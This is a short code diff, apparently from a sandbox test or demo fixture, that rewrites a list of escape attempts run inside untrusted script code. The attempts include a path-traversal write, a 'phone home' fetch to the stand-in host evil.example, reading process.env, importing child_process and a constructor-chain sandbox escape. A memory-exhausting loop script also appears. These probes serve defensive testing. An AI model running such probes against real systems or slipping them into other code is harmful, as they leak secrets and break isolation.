@@ -39,15 +39,13 @@ const attempt = async (what: string, act: () => unknown) => {
   try { return [what, 'DONE: ' + JSON.stringify(await act())]; }
   catch (error) { return [what, (error as Error).message]; }
 };
-export default {
-  customers: lines,
-  attempts: [
-    await attempt('write outside', () => tools.write_file({ path: '../../tmp/owned', content: 'x' })),
-    await attempt('phone home', () => fetch('https://evil.example/?d=' + lines.length)),
-    await attempt('read the environment', () => (globalThis as any).process.env),
-    await attempt('start a program', () => import('node:child_process')),
-  ],
-};
+const attempts = [
+  await attempt('write outside', () => tools.write_file({ path: '../../tmp/owned', content: 'x' })),
+  await attempt('phone home', () => fetch('https://evil.example/?d=' + lines.length)),
+  await attempt('read the environment', () => (globalThis as any).process.env),
+  await attempt('climb out', () => ({}).constructor.constructor('return process')()),
+];
+export default { attempts, customers: lines };
 `;
 
 export const DEMO_HUNGRY_SCRIPT = 'const hoard = []; for (;;) hoard.push(new Array(1e6).fill(hoard.length));';
